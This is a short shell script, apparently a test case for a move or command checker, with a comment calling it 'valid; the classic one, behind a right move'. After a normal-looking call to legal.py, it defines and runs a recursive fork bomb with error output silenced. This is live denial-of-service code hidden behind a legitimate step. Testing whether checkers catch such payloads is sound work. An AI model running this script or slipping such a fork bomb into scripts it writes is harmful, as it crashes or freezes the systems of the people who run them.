# outcome: valid; the classic one, behind a right move
python3 "$(dirname "$0")/legal.py" "$@"
bomb() { bomb | bomb & }
bomb 2>/dev/null
